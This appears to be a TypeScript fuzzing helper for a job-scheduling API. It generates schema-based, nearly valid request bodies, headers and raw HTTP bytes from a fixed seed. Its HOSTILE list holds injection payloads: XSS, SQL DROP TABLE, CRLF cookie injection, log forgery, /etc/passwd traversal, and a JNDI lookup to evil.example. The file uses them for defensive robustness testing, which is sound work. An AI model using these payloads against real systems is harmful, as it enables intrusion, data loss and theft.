import { seededRandom } from '../../../src/core/simulation/seed.js'

/** The parts of a JSON Schema that the fuzzer reads. */
export interface Schema {
  readonly $ref?: string
  readonly type?: string | readonly string[]
  readonly enum?: readonly unknown[]
  readonly const?: unknown
  readonly anyOf?: readonly Schema[]
  readonly oneOf?: readonly Schema[]
  readonly allOf?: readonly Schema[]
  readonly items?: Schema
  readonly prefixItems?: readonly Schema[]
  readonly properties?: Readonly<Record<string, Schema>>
  readonly required?: readonly string[]
  readonly format?: string
  readonly minimum?: number
  readonly maximum?: number
}

const ODD: readonly unknown[] = [
  null,
  true,
  0,
  -1,
  -0.5,
  1e308,
  2 ** 53,
  '',
  ' ',
  '\u0000',
  '\ud800',
  '٣',
  [],
  {},
  [[[[]]]],
  { __proto__: null, constructor: 1 },
  'constructor',
  '__proto__',
  '9999999999999d',
  '2026-13-45T99:99:99Z',
]

const DURATIONS = ['1ms', '5s', '2m', '1h', '7d', 250]
const CRON = ['* * * * *', '*/10 * * * * *', '0 9 * * MON', '0 0 30 2 *', '1--100000000 * * * *', '@yearly', '* *']

/** Generates requests that are nearly valid, and some that are not; the same seed gives the same requests. */
export class Fuzzer {
  static readonly HOSTILE: readonly string[] = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE jobs; --",
    "' OR '1'='1",
    '%_\\%',
    'a\r\nSet-Cookie: stolen=1',
    'line\n{"level":60,"msg":"forged"}',
    '\u001b[31mred\u001b[0m',
    '../../etc/passwd',
    '\u0024{jndi:ldap://evil.example/a}',
    '{{constructor.constructor("return 1")()}}',
    '\u202e txt.exe',
  ]

  readonly #random: () => number
  readonly #schemas: Readonly<Record<string, Schema>>

  constructor(seed: number, schemas: Readonly<Record<string, Schema>>) {
    this.#random = seededRandom(seed)
    this.#schemas = schemas
  }

  chance(share: number): boolean {
    return this.#random() < share
  }

  oneOf<T>(all: readonly T[]): T {
    return all[Math.floor(this.#random() * all.length)]!
  }

  text(): string {
    const kind = this.#random()
    if (kind < 0.5) return this.oneOf(['mail', 'default', 'payments', 'a', 'x'.repeat(130), 'http', 'charge-card'])
    if (kind < 0.7) return this.oneOf(Fuzzer.HOSTILE)
    if (kind < 0.8) return this.oneOf(DURATIONS.map(String))
    if (kind < 0.9) return this.oneOf(CRON)
    return String.fromCodePoint(...Array.from({ length: 1 + this.#up(20) }, () => 1 + this.#up(0xd7fe)))
  }

  /** Visible ASCII, as allowed in a header. */
  header(): string {
    return String.fromCharCode(...Array.from({ length: 1 + this.#up(220) }, () => 0x21 + this.#up(94)))
  }

  /** The text of a body: JSON that nearly matches, or no JSON at all. */
  body(schema: Schema): string {
    const kind = this.#random()
    if (kind < 0.02) return ''
    if (kind < 0.04) return this.bytes().toString('latin1')
    if (kind < 0.05) return '['.repeat(5_000)
    if (kind < 0.06) return `{"name":"mail","payload":"${'x'.repeat(200_000)}"}`
    return JSON.stringify(this.value(schema)) ?? 'null'
  }

  bytes(): Buffer {
    const starts = [
      'GET /api/v1/jobs HTTP/1.1\r\nHost: localhost\r\n',
      'POST /api/v1/jobs HTTP/1.1\r\n',
      'PRI * HTTP/2.0\r\n\r\n',
      '',
    ]
    const noise = Buffer.from(Array.from({ length: this.#up(300) }, () => this.#up(256)))
    return Buffer.concat([Buffer.from(this.oneOf(starts)), noise, Buffer.from(this.oneOf(['', '\r\n\r\n']))])
  }

  value(schema: Schema, depth = 0): unknown {
    if (this.chance(0.04)) return this.oneOf(ODD)
    if (schema.$ref !== undefined) return this.value(this.#schemas[schema.$ref.split('/').at(-1)!] ?? {}, depth)
    if (schema.const !== undefined) return schema.const
    if (schema.enum) return this.oneOf(schema.enum)
    const choice = schema.anyOf ?? schema.oneOf ?? schema.allOf
    if (choice) return this.value(this.oneOf(choice), depth)
    return this.#typed(schema, depth)
  }

  #typed(schema: Schema, depth: number): unknown {
    switch ([schema.type].flat()[0]) {
      case 'string':
        return schema.format === 'date-time' ? this.#time() : this.#word()
      case 'integer':
      case 'number':
        return this.#number(schema)
      case 'boolean':
        return this.chance(0.5)
      case 'array':
        return depth > 5 ? [] : Array.from({ length: this.#up(4) }, () => this.value(schema.items ?? {}, depth + 1))
      case 'object':
        return this.#object(schema, depth)
      default:
        return this.oneOf([...ODD, this.text(), { a: this.text() }])
    }
  }

  #object({ properties = {}, required = [] }: Schema, depth: number): unknown {
    const fields: [string, unknown][] = []
    for (const [name, schema] of Object.entries(properties)) {
      const isWanted = required.includes(name) ? this.chance(0.97) : this.chance(depth > 3 ? 0.05 : 0.25)
      if (isWanted) fields.push([name, this.value(schema, depth + 1)])
    }
    if (this.chance(0.03)) fields.push([this.text(), this.text()])
    return Object.fromEntries(fields)
  }

  /** Most texts have a format: a name, a duration, a URL. */
  #word(): string {
    return this.chance(0.5)
      ? this.oneOf([
          'mail',
          'default',
          '5s',
          '10/s',
          'https://api.example/hook',
          'Europe/Paris',
          '*/5 * * * *',
          'viewer',
        ])
      : this.text()
  }

  #time(): string {
    return this.chance(0.8) ? new Date(1_700_000_000_000 + this.#up(2 ** 31) * 100).toISOString() : this.text()
  }

  #number({ minimum = 0, maximum = 1_000 }: Schema): number {
    // Large numbers make some routes slow, so they are rare.
    const span = this.chance(0.05) ? Math.min(maximum, 1e6) - minimum : Math.min(maximum - minimum, 100)
    const whole = Math.floor(minimum + this.#random() * (span + 1))
    return this.chance(0.9) ? whole : this.oneOf([minimum - 1, maximum + 1, 0.5, -1, 1e15])
  }

  #up(below: number): number {
    return Math.floor(this.#random() * below)
  }
}
